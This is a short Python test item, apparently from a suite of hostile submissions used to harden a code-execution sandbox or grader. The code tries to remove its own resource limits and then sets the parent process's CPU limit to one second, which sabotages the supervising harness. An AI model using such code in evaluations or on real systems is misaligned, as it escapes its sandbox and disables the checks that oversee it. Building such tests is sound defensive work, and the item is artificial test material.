# attack: raises its own limits, and lowers those of others
# family: state
# base: solved
# points: 7
# %% last
import os, resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
    except (OSError, ValueError):
        continue
    raise AssertionError("more")
resource.prlimit(os.getppid() or 2, resource.RLIMIT_CPU, (1, 1))
